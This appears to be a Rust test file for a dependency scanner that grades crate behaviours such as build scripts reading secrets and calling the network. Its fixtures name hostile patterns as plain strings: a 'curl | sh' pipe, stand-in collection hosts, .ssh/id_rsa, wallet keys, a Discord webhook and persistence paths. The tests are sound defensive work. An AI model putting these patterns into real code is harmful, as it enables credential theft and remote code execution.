//! `behaviour`: each intent rule, positive and negative, build-time and run-time; the drift
//! of an upgrade in `review`.

use super::*;
use crate::analysis::behaviour::{Behaviour, Fact, Kind, Role};
use crate::checks::behaviour::Behaviours;
use crate::finding::Severity;

fn fact(kind: Kind, role: Role, subject: &str, class: &str) -> Fact {
    Fact {
        kind,
        role,
        file: if role == Role::BuildScript {
            "build.rs"
        } else {
            "src/lib.rs"
        }
        .into(),
        line: 3,
        snippet: "snippet();".into(),
        subject: subject.into(),
        class: class.into(),
        func: "f".into(),
        computed: false,
        decoded: None,
        gated: None,
    }
}

fn in_fn(mut f: Fact, func: &str) -> Fact {
    f.func = func.into();
    f
}

fn findings_for(facts: Vec<Fact>) -> Vec<Finding> {
    let g = graph(&[("app", "0.1.0", None), ("demo", "1.0.0", Some(CRATES_IO))]);
    let a = CrateAnalysis {
        behaviour: Some(Behaviour {
            facts,
            files_read: 1,
            ..Behaviour::default()
        }),
        ..CrateAnalysis::default()
    };
    let an = analyses(vec![(1, Ok(a))]);
    let cx = Context {
        graph: Some(&g),
        analyses: Some(&an),
        ..Context::new(clock())
    };
    let (status, findings) = run(&Behaviours, &cx);
    assert_eq!(status, CheckStatus::Ran);
    findings
}

fn severity_of(findings: &[Finding], code: &str) -> Option<Severity> {
    findings.iter().find(|f| f.code == code).map(|f| f.severity)
}

use Kind::*;
use Role::*;

#[test]
fn build_script_reading_secrets_with_network_is_critical_exfiltration() {
    let found = findings_for(vec![
        fact(EnvRead, BuildScript, "GITHUB_TOKEN", ""),
        fact(Network, BuildScript, "0.0.0.0:0", "socket"),
    ]);
    let f = one(&found, "behaviour-exfiltration");
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.title.contains("build-time"), "{}", f.title);
    assert!(f.evidence.iter().any(|e| e.starts_with("build.rs:3")));
}

#[test]
fn secrets_alone_or_network_alone_is_not_exfiltration() {
    let found = findings_for(vec![fact(EnvRead, BuildScript, "GITHUB_TOKEN", "")]);
    assert!(severity_of(&found, "behaviour-exfiltration").is_none());
    let found = findings_for(vec![
        fact(EnvRead, BuildScript, "CARGO_PKG_NAME", ""),
        fact(Network, BuildScript, "x", "http"),
    ]);
    assert!(
        severity_of(&found, "behaviour-exfiltration").is_none(),
        "{found:#?}"
    );
}

#[test]
fn run_time_secrets_sent_from_one_function_are_high_apart_they_are_not() {
    let same = findings_for(vec![
        in_fn(fact(EnvRead, Library, "API_TOKEN", ""), "send"),
        in_fn(
            fact(
                Network,
                Library,
                "https://collect.example.invalid/k",
                "http",
            ),
            "send",
        ),
    ]);
    assert_eq!(
        severity_of(&same, "behaviour-exfiltration"),
        Some(Severity::High)
    );
    assert!(
        one(&same, "behaviour-exfiltration")
            .title
            .contains("run-time")
    );
    let apart = findings_for(vec![
        in_fn(fact(EnvRead, Library, "API_TOKEN", ""), "config"),
        in_fn(
            fact(Network, Library, "reqwest::Client::new", "http"),
            "send",
        ),
    ]);
    assert_eq!(severity_of(&apart, "behaviour-exfiltration"), None);
    // A client built in the same function, to an address the code does not fix (a region's
    // endpoint, a configured URL): a library using its credentials, not sending them.
    let configured = findings_for(vec![
        in_fn(fact(EnvRead, Library, "API_TOKEN", ""), "send"),
        in_fn(
            fact(Network, Library, "reqwest::Client::new", "http"),
            "send",
        ),
    ]);
    assert_eq!(severity_of(&configured, "behaviour-exfiltration"), None);
    // A service's own credential to that service's domain is use; to another domain, theft.
    let owned = |host: &str| {
        findings_for(vec![
            in_fn(fact(EnvRead, Library, "OPENAI_API_KEY", ""), "chat"),
            in_fn(fact(Network, Library, host, "http"), "chat"),
        ])
    };
    let to_openai = owned("https://api.openai.com/v1/chat/completions");
    assert_eq!(
        severity_of(&to_openai, "behaviour-exfiltration"),
        Some(Severity::Medium)
    );
    let to_lookalike = owned("https://api.openai-metrics.invalid/v1");
    assert_eq!(
        severity_of(&to_lookalike, "behaviour-exfiltration"),
        Some(Severity::High)
    );
    // Raw sockets and helpers that send count as sending.
    let raw = findings_for(vec![
        in_fn(
            fact(SecretFile, Library, ".ssh/id_rsa", "credential"),
            "digest",
        ),
        in_fn(fact(Network, Library, "send()", "via-function"), "digest"),
    ]);
    assert_eq!(
        severity_of(&raw, "behaviour-exfiltration"),
        Some(Severity::High)
    );
    let keys = findings_for(vec![
        in_fn(fact(EnvRead, Library, "WALLET_PRIVATE_KEY", ""), "config"),
        in_fn(
            fact(Network, Library, "reqwest::Client::new", "http"),
            "send",
        ),
    ]);
    assert_eq!(
        severity_of(&keys, "behaviour-exfiltration"),
        Some(Severity::High)
    );
    let dump = findings_for(vec![
        in_fn(fact(EnvDump, Library, "env::vars()", ""), "send"),
        in_fn(fact(Network, Library, "198.51.100.7:443", "socket"), "send"),
    ]);
    assert_eq!(
        severity_of(&dump, "behaviour-exfiltration"),
        Some(Severity::Critical)
    );
}

#[test]
fn download_and_execute_is_critical() {
    let found = findings_for(vec![fact(DownloadExec, Library, "in fn f", "")]);
    assert_eq!(
        severity_of(&found, "behaviour-download-execute"),
        Some(Severity::Critical)
    );
    let tool = findings_for(vec![
        fact(
            Exec,
            BuildScript,
            "curl -o /tmp/x https://x",
            "download-tool",
        ),
        fact(Exec, BuildScript, "sh", "shell"),
    ]);
    // Apart (not one function: no chain fact), a download tool and a shell are what every
    // `-sys` build script fetching a prebuilt library does.
    assert!(severity_of(&tool, "behaviour-download-execute").is_none());
    // Made executable, then a computed program run: the download is what runs.
    let mut chmod = vec![
        fact(Network, BuildScript, "ureq::get", "http"),
        fact(FileWrite, BuildScript, "", "permissions"),
        fact(Exec, BuildScript, "", "other"),
    ];
    chmod[2].computed = true;
    let chmod = findings_for(chmod);
    assert_eq!(
        severity_of(&chmod, "behaviour-download-execute"),
        Some(Severity::High)
    );
    let probe = findings_for(vec![
        fact(Exec, BuildScript, "$RUSTC", "compiler"),
        fact(Exec, BuildScript, "cc", "compiler"),
    ]);
    assert!(severity_of(&probe, "behaviour-download-execute").is_none());
}

#[test]
fn environment_gated_exec_is_high_and_ordinary_conditions_are_not() {
    let mut gated = fact(Exec, Library, "/tmp/x", "other");
    gated.gated = Some("environment variable GITLAB_CI".into());
    let found = findings_for(vec![gated]);
    assert_eq!(
        severity_of(&found, "behaviour-env-gated"),
        Some(Severity::High)
    );
    let mut probe = fact(Exec, BuildScript, "cc", "compiler");
    probe.gated = Some("environment variable CI".into());
    assert!(severity_of(&findings_for(vec![probe]), "behaviour-env-gated").is_none());
    let mut dated = fact(Network, Library, "x", "http");
    dated.gated = Some("the current date".into());
    assert!(
        severity_of(&findings_for(vec![dated]), "behaviour-env-gated").is_none(),
        "token expiry checks are ordinary"
    );
}

#[test]
fn obfuscated_exec_is_high_and_critical_with_network() {
    let mut exec = fact(Exec, BuildScript, "sh", "shell");
    exec.decoded = Some("xor".into());
    let alone = findings_for(vec![exec.clone()]);
    assert_eq!(
        severity_of(&alone, "behaviour-obfuscated"),
        Some(Severity::High)
    );
    let with_net = findings_for(vec![exec, fact(Network, BuildScript, "x", "socket")]);
    assert_eq!(
        severity_of(&with_net, "behaviour-obfuscated"),
        Some(Severity::Critical)
    );
    let plain = findings_for(vec![fact(Exec, BuildScript, "sh", "shell")]);
    assert!(severity_of(&plain, "behaviour-obfuscated").is_none());
}

#[test]
fn key_search_with_network_is_high_without_it_nothing() {
    let found = findings_for(vec![
        fact(KeySearch, Library, "[0-9a-f]{64}", "hex private keys"),
        fact(Network, Library, "x", "http"),
    ]);
    assert_eq!(
        severity_of(&found, "behaviour-key-search"),
        Some(Severity::High)
    );
    let alone = findings_for(vec![fact(
        KeySearch,
        Library,
        "[0-9a-f]{64}",
        "hex private keys",
    )]);
    assert!(severity_of(&alone, "behaviour-key-search").is_none());
}

#[test]
fn build_script_running_a_shipped_file_is_high_run_time_medium() {
    let build = findings_for(vec![fact(
        Exec,
        BuildScript,
        "./bin/helper",
        "shipped-file",
    )]);
    assert_eq!(
        severity_of(&build, "behaviour-runs-shipped-file"),
        Some(Severity::High)
    );
    let run = findings_for(vec![fact(Exec, Library, "./bin/helper", "shipped-file")]);
    assert_eq!(
        severity_of(&run, "behaviour-runs-shipped-file"),
        Some(Severity::Medium)
    );
}

#[test]
fn ordinary_capabilities_are_info() {
    let found = findings_for(vec![
        fact(Network, Library, "hyper::client", "http"),
        fact(Exec, BuildScript, "cc", "compiler"),
        fact(Exec, BuildScript, "$RUSTC", "compiler"),
        fact(EnvRead, BuildScript, "TARGET", ""),
    ]);
    assert!(
        found.iter().all(|f| f.severity == Severity::Info),
        "{found:#?}"
    );
    assert_eq!(with_code(&found, "behaviour-capabilities").len(), 2);
}

#[test]
fn endpoints_tls_and_embedded_executables() {
    let found = findings_for(vec![fact(
        Endpoint,
        Library,
        "https://pastebin.com/raw/x",
        "paste site",
    )]);
    assert_eq!(
        severity_of(&found, "behaviour-endpoint"),
        Some(Severity::Medium)
    );
    let sent = findings_for(vec![
        fact(
            Endpoint,
            Library,
            "https://discord.com/api/webhooks/1/x",
            "Discord webhook",
        ),
        fact(Network, Library, "x", "http"),
    ]);
    assert_eq!(
        severity_of(&sent, "behaviour-exfiltration"),
        Some(Severity::High)
    );
    let tls = findings_for(vec![fact(
        TlsOff,
        Library,
        ".danger_accept_invalid_certs(true)",
        "",
    )]);
    assert_eq!(severity_of(&tls, "behaviour-tls-off"), Some(Severity::Low));
    let exe = findings_for(vec![fact(
        EmbeddedExe,
        Library,
        "ELF byte array",
        "literal",
    )]);
    assert_eq!(
        severity_of(&exe, "behaviour-embedded-executable"),
        Some(Severity::Medium)
    );
}

#[test]
fn build_time_identity_sent_out_is_high() {
    let found = findings_for(vec![
        fact(EnvRead, BuildScript, "USER", ""),
        fact(Network, BuildScript, ".to_socket_addrs()", "dns"),
    ]);
    assert_eq!(
        severity_of(&found, "behaviour-exfiltration"),
        Some(Severity::High)
    );
}

#[test]
fn partial_analysis_is_said() {
    let g = graph(&[("app", "0.1.0", None), ("demo", "1.0.0", Some(CRATES_IO))]);
    let a = CrateAnalysis {
        behaviour: Some(Behaviour {
            partial: vec!["src/huge.rs: too large to read (generated?)".into()],
            ..Behaviour::default()
        }),
        ..CrateAnalysis::default()
    };
    let an = analyses(vec![(1, Ok(a))]);
    let cx = Context {
        graph: Some(&g),
        analyses: Some(&an),
        ..Context::new(clock())
    };
    let (_, found) = run(&Behaviours, &cx);
    assert!(one(&found, "behaviour-partial").evidence[0].contains("src/huge.rs"));
}

#[test]
fn drift_says_what_an_upgrade_newly_does() {
    let old = CrateAnalysis {
        behaviour: Some(Behaviour {
            facts: vec![fact(Exec, BuildScript, "cc", "compiler")],
            ..Behaviour::default()
        }),
        ..CrateAnalysis::default()
    };
    let new = CrateAnalysis {
        behaviour: Some(Behaviour {
            facts: vec![
                fact(Exec, BuildScript, "cc", "compiler"),
                fact(Network, Library, "std::net::TcpStream", "socket"),
            ],
            ..Behaviour::default()
        }),
        ..CrateAnalysis::default()
    };
    let mut make = |s: &'static crate::finding::CodeSpec, t: String| Finding::new("review", s, t);
    let found = crate::checks::behaviour::drift(
        "demo 1.0.1",
        &old,
        &new,
        &crate::checks::review::BEHAVIOUR_ADDED,
        &mut make,
    );
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::High);
    assert!(
        found[0].title.contains("run-time") && found[0].title.contains("newly uses the network"),
        "{}",
        found[0].title
    );
    let same = crate::checks::behaviour::drift(
        "demo 1.0.1",
        &new,
        &new,
        &crate::checks::review::BEHAVIOUR_ADDED,
        &mut make,
    );
    assert!(same.is_empty());
    let mut evil = new.clone();
    if let Some(b) = &mut evil.behaviour {
        b.facts
            .push(in_fn(fact(EnvDump, Library, "env::vars()", ""), "f"));
        b.facts.push(in_fn(
            fact(Network, Library, "https://collect.invalid/e", "http"),
            "f",
        ));
    }
    let found = crate::checks::behaviour::drift(
        "demo 1.0.1",
        &new,
        &evil,
        &crate::checks::review::BEHAVIOUR_ADDED,
        &mut make,
    );
    assert_eq!(found[0].severity, Severity::Critical, "{found:#?}");
}

#[test]
fn build_time_writes_that_name_where_programs_start_are_high() {
    let poison = findings_for(vec![
        fact(SecretFile, BuildScript, ".rustup", "persistence"),
        fact(FileWrite, BuildScript, "", "permissions"),
    ]);
    assert_eq!(
        severity_of(&poison, "behaviour-persistence"),
        Some(Severity::High)
    );
    // Named but never written; or written at run time (an installer): not this finding.
    let named = findings_for(vec![fact(
        SecretFile,
        BuildScript,
        ".cargo/bin",
        "persistence",
    )]);
    assert_eq!(severity_of(&named, "behaviour-persistence"), None);
    let installer = findings_for(vec![
        fact(SecretFile, Library, ".cargo/bin", "persistence"),
        fact(FileWrite, Library, "", ""),
    ]);
    assert_eq!(severity_of(&installer, "behaviour-persistence"), None);
    // A persistence place is not a secret: no exfiltration from naming `.bashrc`.
    let bashrc = findings_for(vec![
        fact(SecretFile, BuildScript, "/home/u/.bashrc", "persistence"),
        fact(Network, BuildScript, "https://x.invalid/", "http"),
    ]);
    assert_eq!(severity_of(&bashrc, "behaviour-exfiltration"), None);
}

#[test]
fn proc_macros_running_programs_and_build_time_openers_are_high() {
    let opener = findings_for(vec![fact(Exec, ProcMacro, "xdg-open", "opener")]);
    assert_eq!(
        severity_of(&opener, "behaviour-macro-exec"),
        Some(Severity::High)
    );
    let shell = findings_for(vec![fact(Exec, ProcMacro, "sh", "shell")]);
    assert_eq!(
        severity_of(&shell, "behaviour-macro-exec"),
        Some(Severity::High)
    );
    // Build tools from a proc-macro (git describe, rustc probes) and shells from build
    // scripts (configure) are ordinary.
    let tools = findings_for(vec![
        fact(Exec, ProcMacro, "git", "build-tool"),
        fact(Exec, ProcMacro, "$RUSTC", "compiler"),
        fact(Exec, BuildScript, "sh", "shell"),
    ]);
    assert_eq!(severity_of(&tools, "behaviour-macro-exec"), None);
}

#[test]
fn a_file_written_then_run_is_high_even_at_run_time() {
    let dropper = findings_for(vec![
        fact(FileWrite, Library, "", ""),
        fact(
            Exec,
            Library,
            "path (written by this function)",
            "written-file",
        ),
    ]);
    assert_eq!(
        severity_of(&dropper, "behaviour-runs-shipped-file"),
        Some(Severity::High)
    );
    let shipped = findings_for(vec![fact(Exec, Library, "bin/helper", "shipped-file")]);
    assert_eq!(
        severity_of(&shipped, "behaviour-runs-shipped-file"),
        Some(Severity::Medium)
    );
}

#[test]
fn a_secret_kept_and_sent_from_another_function_of_the_file_is_medium() {
    let split = findings_for(vec![
        in_fn(fact(EnvRead, Library, "SLACK_TOKEN", ""), "from_env"),
        in_fn(
            fact(Network, Library, "https://hooks.example.invalid/x", "http"),
            "notify",
        ),
    ]);
    assert_eq!(
        severity_of(&split, "behaviour-exfiltration"),
        Some(Severity::Medium)
    );
}

#[test]
fn build_time_identity_counts_beside_the_way_out_only() {
    let mut dirs = fact(EnvRead, BuildScript, "USER", "identity");
    dirs.file = "src/internal/dirs.rs".into();
    let apart = findings_for(vec![dirs, fact(Network, BuildScript, "ureq::get", "http")]);
    assert_eq!(severity_of(&apart, "behaviour-exfiltration"), None);
    let beside = findings_for(vec![
        fact(EnvRead, BuildScript, "USER", ""),
        fact(Exec, BuildScript, "curl", "download-tool"),
    ]);
    assert_eq!(
        severity_of(&beside, "behaviour-exfiltration"),
        Some(Severity::High)
    );
}

#[test]
fn a_macro_run_already_judged_is_not_repeated() {
    let mut sh = fact(Exec, ProcMacro, "sh", "shell");
    sh.line = 2;
    let mut tool = fact(
        Exec,
        ProcMacro,
        "curl https://x.invalid | sh",
        "download-tool",
    );
    tool.line = 2;
    let mut chain = fact(DownloadExec, ProcMacro, "in fn x", "");
    chain.line = 2;
    let found = findings_for(vec![sh, tool, chain]);
    assert_eq!(
        severity_of(&found, "behaviour-download-execute"),
        Some(Severity::Critical)
    );
    assert_eq!(
        severity_of(&found, "behaviour-macro-exec"),
        None,
        "{found:#?}"
    );
}
